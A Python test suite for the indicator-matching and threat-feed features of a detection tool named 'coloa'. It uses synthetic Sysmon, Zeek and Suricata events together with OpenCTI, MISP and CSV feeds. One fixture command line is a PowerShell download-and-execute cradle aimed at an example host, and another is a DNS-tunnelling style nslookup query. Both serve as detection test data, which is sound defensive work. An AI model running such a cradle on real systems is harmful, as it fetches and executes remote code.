"""Indicators as a user meets them: `coloa intel`, a hunt, a node that is told of new ones and in which they end."""
import json
import time

from node_world import Node, bulk
from tap import coloa, data, run

SYSMON = "Microsoft-Windows-Sysmon/Operational"
HASHES = ("SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,"
          "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH=00000000000000000000000000000000")
RULE = """title: Never
id: 11111111-2222-4333-8444-555555555501
status: test
description: d
author: tests
date: 2026-11-23
logsource: {product: windows, category: process_creation}
detection: {s: {Image: nothing}, condition: s}
level: low
"""


def connection(ip, name="-", host="PC1") -> dict:
    return {"Channel": SYSMON, "EventID": 3, "Computer": host, "@timestamp": "2026-11-20T10:00:00.000Z", "Image": "C:\\x.exe",
            "DestinationIp": ip, "DestinationHostname": name}


EVENTS = [
    connection("198.51.100.7", "a.b.evil.example"),
    {"Channel": SYSMON, "EventID": 1, "Computer": "PC2", "@timestamp": "2026-11-20T10:00:01.000Z", "Image": "C:\\y.exe", "Hashes": HASHES},
    {"Channel": SYSMON, "EventID": 22, "Computer": "PC3", "@timestamp": "2026-11-20T10:00:02.000Z", "QueryName": "ok.example",
     "QueryResults": "type:  5 q.warned.example;::ffff:203.0.113.9;"},
    connection("8.8.8.8"),
    connection("192.0.2.1", "evil.example.org"),
    {"timestamp": "2026-11-20T10:00:03.000000+0000", "event_type": "tls", "src_ip": "10.0.0.5", "dest_ip": "10.0.0.6", "flow_id": 1,
     "tls": {"sni": "x.example", "ja3": {"hash": "aaaabbbbccccddddaaaabbbbccccdddd"}}},
    {"ts": 1763632800.0, "uid": "C1", "id.orig_h": "10.0.0.5", "id.orig_p": 1, "id.resp_h": "10.0.0.6", "id.resp_p": 80,
     "method": "GET", "host": "login.evil.example", "uri": "/"},
]


def indicator(pattern, name, **more) -> dict:
    return {"type": "indicator", "spec_version": "2.1", "id": "indicator--1", "name": name, "pattern_type": "stix",
            "pattern": pattern, "valid_from": "2026-11-01T00:00:00Z", **more}


def write(folder) -> list:
    (folder / "rule.yml").write_text(RULE)
    (folder / "opencti.json").write_text(json.dumps({"type": "bundle", "id": "bundle--1", "objects": [
        indicator("[ipv4-addr:value = '198.51.100.7']", "C2 address", confidence=85),
        indicator("[file:hashes.'SHA-256' = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']", "Expired",
                  valid_until="2026-11-19T00:00:00Z"),
        indicator("[ipv4-addr:value = '192.0.2.1']", "Revoked", revoked=True),
        indicator("[ipv4-addr:value = '8.8.8.8']", "Resolver"),
        indicator("[domain-name:value MATCHES 'x']", "Not supported"),
        indicator("[ipv6-addr:value = '::']", "", pattern_type="yara")]}))
    (folder / "misp.json").write_text(json.dumps({"Event": {"info": "Campaign", "threat_level_id": "3", "Attribute": [
        {"type": "domain", "value": "evil[.]example", "to_ids": True},
        {"type": "domain", "value": "warned.example", "to_ids": True},
        {"type": "filename|md5", "value": "y.exe|d41d8cd98f00b204e9800998ecf8427e", "to_ids": True, "comment": "Dropper"},
        {"type": "ip-dst", "value": "10.0.0.6", "to_ids": False}]}}))
    (folder / "list.csv").write_text("type,value,name\nja3,aaaabbbbccccddddaaaabbbbccccdddd,Loader\ncidr,203.0.113.0/24,Net\n")
    (folder / "warn1.json").write_text(json.dumps({"name": "Resolvers", "type": "cidr", "list": ["8.8.8.0/24"]}))
    (folder / "warn2.json").write_text(json.dumps({"name": "Known", "type": "hostname", "list": ["warned.example"]}))
    (folder / "events.json").write_text("".join(json.dumps(e) + "\n" for e in EVENTS))
    return ["--warning-list", folder / "warn1.json", "--warning-list", folder / "warn2.json"]


FILES = ("opencti.json", "misp.json", "list.csv")


def hunt(folder, *more):
    warn = write(folder)
    files = [x for f in FILES for x in ("--intel", folder / f)]
    r = coloa("hunt", "-q", "-r", folder / "rule.yml", *files, *warn, "--intel-at", "2026-11-23T00:00:00Z", "-o", "jsonl", *more,
              folder / "events.json")
    return r, [json.loads(line) for line in r.stdout.splitlines()]


def said(found) -> list:
    return sorted((f["rule.name"], f["coloa.event"]["coloa.indicator"], f["rule.level"], f["coloa.event"].get("coloa.indicator.name"))
                  for f in found)


EXPECTED = sorted([
    ("Indicator of opencti", "198.51.100.7", "high", "C2 address"),
    ("Indicator of misp", "evil.example", "low", "Campaign"),
    ("Indicator of misp", "evil.example", "low", "Campaign"),
    ("Indicator of misp", "d41d8cd98f00b204e9800998ecf8427e", "low", "Dropper"),
    ("Indicator of list", "203.0.113.0/24", "medium", "Net"),
    ("Indicator of list", "aaaabbbbccccddddaaaabbbbccccdddd", "medium", "Loader"),
])


def a_hunt_finds_what_is_in_force(folder):
    r, found = hunt(folder)
    assert r.returncode == 1, r
    assert said(found) == EXPECTED, said(found)
    fields = {f["coloa.event"]["coloa.indicator"]: f["coloa.matched_fields"] for f in found if f.get("host.name") == "PC1"}
    assert fields["198.51.100.7"] == ["DestinationIp", "coloa.indicator"], fields
    assert fields["evil.example"] == ["DestinationHostname", "coloa.indicator"], fields
    assert b"5 indicators are used" in r.stderr and b"1 expired, 1 revoked, 2 on a warning list" in r.stderr, r.stderr.decode()


def the_same_without_the_memo_and_by_more_judges(folder):
    assert said(hunt(folder, "--no-memo")[1]) == EXPECTED
    assert said(hunt(folder, "--jobs", "3")[1]) == EXPECTED


def levels_are_filtered(folder):
    assert [x[1] for x in said(hunt(folder, "--min-level", "high")[1])] == ["198.51.100.7"]


def sysmon1(**more) -> dict:
    return {"Channel": SYSMON, "EventID": 1, "Computer": "PC9", "@timestamp": "2026-11-20T10:00:01.000Z", "Image": "C:\\y.exe", **more}


def zeek(**more) -> dict:
    return {"ts": 1763632800.0, "uid": "C1", "id.orig_h": "10.0.0.5", "id.orig_p": 1, "id.resp_h": "10.0.0.6", "id.resp_p": 80,
            "method": "GET", **more}


def eve(kind, **more) -> dict:
    return {"timestamp": "2026-11-20T10:00:03.000000+0000", "event_type": kind, "src_ip": "10.0.0.5", "dest_ip": "10.0.0.6",
            "flow_id": 1, **more}


BAD = "http://shop.example/pay/x.php?id=7"
ELSEWHERE = [  # an event; what is found in it, by which field
    # A URL in two fields, or three; with a port; whole; of another host.
    (zeek(host="shop.example", uri="/pay/x.php?id=7"), ("shop.example/pay/x.php?id=7", "uri")),
    (zeek(host="SHOP.example:80", uri="/pay/x.php?id=7"), ("shop.example/pay/x.php?id=7", "uri")),
    (zeek(host="shop.example:8080", uri="/pay/x.php?id=7"), None),
    (zeek(host="other.example", uri="/pay/x.php?id=7"), None),
    (zeek(host="shop.example", uri="/pay/x.php"), None),
    (zeek(host="short.example", uri="/a"), ("short.example/a", "uri")),
    (zeek(host="203.0.113.80", uri="/b"), ("203.0.113.80/b", "uri")),
    (eve("http", http={"hostname": "shop.example", "url": "/pay/x.php?id=7", "http_method": "GET"}),
     ("shop.example/pay/x.php?id=7", "http.url")),
    (eve("http", http={"hostname": "proxy.example", "url": BAD, "http_method": "GET"}), ("shop.example/pay/x.php?id=7", "http.url")),
    (eve("http", http={"url": "/pay/x.php?id=7", "http_method": "GET"}), None),
    ({"@timestamp": "2026-11-20T10:00:03Z", "event": {"category": "web"}, "url": {"domain": "shop.example", "path": "/pay/x.php",
                                                                                   "query": "id=7"}},
     ("shop.example/pay/x.php?id=7", "url.path")),
    ({"@timestamp": "2026-11-20T10:00:03Z", "event": {"category": "web"}, "url": {"domain": "short.example", "path": "/a"}},
     ("short.example/a", "url.path")),
    # Command lines and scripts.
    (sysmon1(CommandLine=f"powershell IEX(New-Object Net.WebClient).DownloadString('{BAD}')"),
     ("shop.example/pay/x.php?id=7", "CommandLine")),
    (sysmon1(CommandLine="nslookup -type=txt q7.tunnel.example 10.0.0.1"), ("tunnel.example", "CommandLine")),
    (sysmon1(CommandLine='curl "https://xn--bcher-kva.example/x"'), ("xn--bcher-kva.example", "CommandLine")),
    (sysmon1(CommandLine="ping 198.51.100.99"), ("198.51.100.99", "CommandLine")),
    (sysmon1(CommandLine="ping 198.51.100.9"), None),
    ({"Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104, "Computer": "PC9", "@timestamp": "2026-11-20T10:00:01Z",
      "ScriptBlockText": "$u = 'b\u00fccher.example'\nInvoke-WebRequest $u"}, ("xn--bcher-kva.example", "ScriptBlockText")),
    # Names that were asked for.
    (zeek(query="a.b.c.tunnel.example"), ("tunnel.example", "query")),
    (eve("dns", dns={"type": "query", "rrname": "A.Tunnel.Example"}), ("tunnel.example", "dns.rrname")),
    ({"Channel": SYSMON, "EventID": 22, "Computer": "PC9", "@timestamp": "2026-11-20T10:00:02Z", "QueryName": "XN--BCHER-KVA.example."},
     ("xn--bcher-kva.example", "QueryName")),
    # On a warning list, in whatever form it was told.
    (sysmon1(CommandLine="curl http://www.warned.example/x"), None),
]


def wherever_they_stand(folder):
    (folder / "rule.yml").write_text(RULE)
    (folder / "feed.txt").write_text(f"{BAD}\nhttps://short.example/a\nhttp://203.0.113.80/b\n*.tunnel.example\nb\u00fccher.example\n"
                                     "198.51.100.99\nwww.warned.example\nhttp://www.warned.example/x\n")
    (folder / "warn.json").write_text(json.dumps({"name": "Known", "type": "hostname", "list": ["warned.example"]}))
    for i, (event, want) in enumerate(ELSEWHERE):
        event["number"] = i
    (folder / "events.json").write_text("".join(json.dumps(e) + "\n" for e, _ in ELSEWHERE))
    for more in ([], ["--no-memo"], ["--repeat", "3"]):
        r = coloa("hunt", "-q", "-r", folder / "rule.yml", "--intel", folder / "feed.txt", "--warning-list", folder / "warn.json",
                  "-o", "jsonl", *more, folder / "events.json")
        got = {}
        for f in map(json.loads, r.stdout.splitlines()):
            fields = [x for x in f["coloa.matched_fields"] if x != "coloa.indicator"]
            got.setdefault(int(f["coloa.event"]["number"]), set()).add((f["coloa.event"]["coloa.indicator"], *fields))
        for i, (event, want) in enumerate(ELSEWHERE):
            assert got.get(i, set()) == ({want} if want else set()), (more, event, want, got.get(i), r.stderr)


def time_decides(folder):
    warn = write(folder)
    args = ("hunt", "-q", "-r", folder / "rule.yml", "--intel", folder / "opencti.json", *warn, "-o", "jsonl")
    before = coloa(*args, "--intel-at", "2026-11-18", folder / "events.json")
    assert b'"Expired"' in before.stdout and b"C2 address" in before.stdout, before
    # A life of ten days for what has no end of its own.
    later = coloa(*args, "--intel-at", "2026-11-23", "--intel-expiry", "10d", folder / "events.json")
    assert later.returncode == 0 and b"3 expired" in later.stderr, later


def check_counts_and_names_places(folder):
    warn = write(folder)
    files = [folder / f for f in FILES]
    r = coloa("intel", "check", *warn, "--intel-at", "2026-11-23", *files)
    assert r.returncode == 1, r
    text = r.stdout.decode()
    assert f"{folder}/opencti.json:1: not supported: " in text, text
    assert "5 indicators in 3 feeds: 2 address, 1 domain, 1 md5, 1 ja3" in text, text
    assert "1 expired, 1 revoked, 2 on a warning list, 1 not for detection (to_ids), 2 not supported" in text, text
    vi = coloa("intel", "check", "--lang", "vi", *warn, "--intel-at", "2026-11-23", *files).stdout.decode()
    assert "chỉ dấu trong 3 nguồn" in vi and "hết hạn" in vi, vi
    got = json.loads(coloa("intel", "check", "--json", *warn, "--intel-at", "2026-11-23", *files).stdout)
    assert got["warned"] == 2 and got["expired"] == 1 and len(got["problems"]) == 2, got
    rows = [json.loads(x) for x in coloa("intel", "list", "--json", *warn, "--intel-at", "2026-11-23", *files).stdout.splitlines()]
    assert {(x["value"], x["state"], x.get("warning_list")) for x in rows if x["state"] == "warned"} == {
        ("8.8.8.8", "warned", "Resolvers"), ("warned.example", "warned", "Known")}, rows
    assert [x["subdomains"] for x in rows if x["value"] == "evil.example"] == [True]


def bad_files_are_told(folder):
    (folder / "cut.json").write_text('{"type":"bundle","objects":[\n{"type":"indicator","pattern":"[url:val')
    r = coloa("intel", "check", folder / "cut.json")
    assert r.returncode == 3 and b"cut.json:2: error: not JSON" in r.stdout, r
    assert coloa("intel", "check", folder / "none.json").returncode == 3
    assert coloa("intel", "check").returncode == 2
    assert coloa("intel", "look", folder / "cut.json").returncode == 2
    assert coloa("intel", "--help").returncode == 0
    (folder / "a.csv").write_text("192.0.2.1;x\n")
    assert coloa("intel", "check", "--intel-columns", "nothing,here", folder / "a.csv").returncode == 3


def real_logs_have_what_python_finds(folder):
    """Values of the logs themselves as indicators, every third: each event that has one is found, no other, memo or not."""
    logs = [p for p in sorted(data("dev-set", "json", "otrf").rglob("*.json")) if 2_000_000 < p.stat().st_size < 12_000_000][:12]
    events, values = [], set()
    for path in logs:
        for line in path.read_bytes().splitlines():
            try:
                event = json.loads(line)
            except ValueError:
                continue
            if not isinstance(event, dict):
                continue
            got = set()
            for name in ("DestinationIp", "SourceIp", "DestAddress"):
                if isinstance(event.get(name), str) and event[name].count(".") == 3:
                    got.add(event[name].lower())
            if isinstance(event.get("Hashes"), str):
                got |= {x.partition("=")[2].lower() for x in event["Hashes"].split(",") if x.startswith(("MD5=", "SHA256="))}
            got.discard("-")
            if got:
                events.append(got)
                values |= got
    chosen = set(sorted(values)[::3])
    (folder / "own.txt").write_text("\n".join(sorted(chosen)) + "\n")
    want = {}
    for got in events:
        for v in got & chosen:
            want[v] = want.get(v, 0) + 1
    assert len(want) > 20 and sum(want.values()) > 500, want
    for more in ((), ("--no-memo",), ("--jobs", "2")):
        r = coloa("hunt", "-q", "--intel", folder / "own.txt", "-o", "jsonl", *more, *logs)
        found = {}
        for line in r.stdout.splitlines():
            f = json.loads(line)
            v = f.get("coloa.event", {}).get("coloa.indicator")
            fields = set(f.get("coloa.matched_fields", ())) & {"DestinationIp", "SourceIp", "DestAddress", "Hashes"}
            if v and fields:
                found[v] = found.get(v, 0) + 1
        diff = {v: (want.get(v), found.get(v)) for v in set(want) | set(found) if want.get(v) != found.get(v)}
        assert not diff, (more, len(want), dict(list(diff.items())[:10]), r.returncode, r.stderr.decode()[-600:])


# ---- a node ----

def send(node, *events) -> None:
    docs = [(i, b"", json.dumps(e).encode()) for i, e in enumerate(events)]
    assert len(bulk(node.port["bulk"], docs)) == len(events)


def raised(node) -> dict:
    return {(a["rule.name"], a["coloa.entity.name"]): a["coloa.count"] for a in node.alerts()}


def a_node_raises_groups_and_reloads(folder):
    feeds = folder / "feeds"
    feeds.mkdir()
    soon = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 8))
    (feeds / "f.csv").write_text(f"value,name,valid_until\n198.51.100.7,C2,\n*.evil.example,Family,\n203.0.113.77,Short,{soon}\n")
    ends = time.time() + 8
    with Node(folder, listeners={"bulk": "bulk"}, head=f"intel: {{files: ['{feeds}']}}") as node:
        assert "indicators=3" in node.said(), node.said()
        send(node, connection("198.51.100.7", "a.evil.example"), connection("198.51.100.7"), connection("198.51.100.7", host="PC9"),
             connection("198.51.100.8"), connection("203.0.113.77"))
        want = {("Indicator of f", "PC1, indicator=198.51.100.7"): 2, ("Indicator of f", "PC9, indicator=198.51.100.7"): 1,
                ("Indicator of f", "PC1, indicator=evil.example"): 1, ("Indicator of f", "PC1, indicator=203.0.113.77"): 1}
        node.wait_for(lambda: raised(node) == want, 30, "for the first alerts")
        # What is new counts from the reload on, what was taken out no more; what ended has ended without one.
        (feeds / "f.csv").write_text(f"value,name,valid_until\n198.51.100.8,New,\n203.0.113.77,Short,{soon}\n")
        r = node.ask("reload")
        assert r.returncode == 0, r
        time.sleep(max(0.0, ends + 1.5 - time.time()))
        send(node, connection("198.51.100.8"), connection("198.51.100.7"), connection("203.0.113.77", host="PC5"))
        want[("Indicator of f", "PC1, indicator=198.51.100.8")] = 1
        node.wait_for(lambda: ("Indicator of f", "PC1, indicator=198.51.100.8") in raised(node), 30, "for the new indicator")
        assert raised(node) == want, raised(node)
        counted(node, feeds, sum(want.values()))
        # A file that is broken changes nothing.
        (feeds / "f.csv").write_text('{"objects":[{"type":')
        assert node.ask("reload").returncode != 0
        send(node, connection("198.51.100.8"))
        want[("Indicator of f", "PC1, indicator=198.51.100.8")] = 3
        node.wait_for(lambda: raised(node) == want, 30, "for the old indicators to stay")


def counted(node, feeds, hits):
    """Status, metrics and the doctor count what is in force, by kind, what has ended, and what was found."""
    before = (feeds / "f.csv").read_text()
    (feeds / "f.csv").write_text("value,name,valid_until\n198.51.100.8,New,\n198.51.100.99,Old,2001-01-01\nevil.example,,\n"
                                 "http://evil.example/a,,\n" + "ab" * 32 + ",,\nnonsense value,,\n")
    assert node.ask("reload").returncode == 0
    said = node.status()["indicators"]
    kinds = {k.removeprefix("indicators_"): v for k, v in said.items() if k.startswith("indicators_")}
    assert said["indicators"] == 4, said
    assert kinds == {"address": 1, "domain": 1, "url": 1, "hash": 1, "ja3": 0, "expired": 1, "left_out": 2}, kinds
    node.wait_for(lambda: node.status()["indicators"]["indicator_hits"] == hits, 30, "for all hits to be counted")
    send(node, connection("198.51.100.8"))
    node.wait_for(lambda: node.status()["indicators"]["indicator_hits"] == hits + 1, 30, "for the hit to be counted")
    text = node.ask("status").stdout.decode()
    assert f"Indicators: 4 in force, 1 addresses, 1 domain names, 1 URL, 1 hashes; left out: 2, of them expired: 1; "\
           f"found in records: {hits + 1}" in text, text
    assert "Chỉ dấu: 4 đang có hiệu lực" in node.ask("status", "--lang", "vi").stdout.decode()
    assert "Duplicates: known for 600 s" in text, text
    doctor = node.ask("doctor").stdout.decode()
    assert "4 indicators: 1 addresses" in doctor and f"4 indicators in force, found in records {hits + 1} times" in doctor, doctor
    assert "known for ten minutes" in doctor, doctor
    (feeds / "f.csv").write_text(before)
    assert node.ask("reload").returncode == 0


def the_past_is_looked_through(folder):
    """What came before an indicator did: by name, and as what is new in the node's own files; once."""
    feeds = folder / "feeds"
    feeds.mkdir()
    (feeds / "f.csv").write_text("value,name\n192.0.2.200,Other\n")
    (folder / "found.txt").write_text("198.51.100.7\n")
    with Node(folder, listeners={"bulk": "bulk"}, head=f"intel: {{files: ['{feeds}']}}") as node:
        send(node, connection("198.51.100.7"), connection("198.51.100.8"), connection("198.51.100.9", "evil.example"))
        node.wait_for(lambda: node.status().get("judged") == 4, 60)
        assert not node.alerts()
        r = coloa("retro", "-c", node.config, "-q", "--intel", folder / "found.txt", timeout=300)
        assert r.returncode == 0, r
        assert raised(node) == {("Indicator of found", "PC1, indicator=198.51.100.7"): 1}, raised(node)
        (feeds / "f.csv").write_text("value,name\n192.0.2.200,Other\n198.51.100.8,New\n")
        assert node.ask("reload").returncode == 0
        for _ in range(2):
            r = coloa("retro", "-c", node.config, "-q", timeout=300)
            assert r.returncode == 0, r
            assert raised(node) == {("Indicator of found", "PC1, indicator=198.51.100.7"): 1,
                                    ("Indicator of f", "PC1, indicator=198.51.100.8"): 1}, raised(node)
        assert all("coloa.retro.run" in a for a in node.alerts())


run(a_hunt_finds_what_is_in_force, the_same_without_the_memo_and_by_more_judges, wherever_they_stand, levels_are_filtered, time_decides,
    check_counts_and_names_places, bad_files_are_told, real_logs_have_what_python_finds, a_node_raises_groups_and_reloads,
    the_past_is_looked_through)
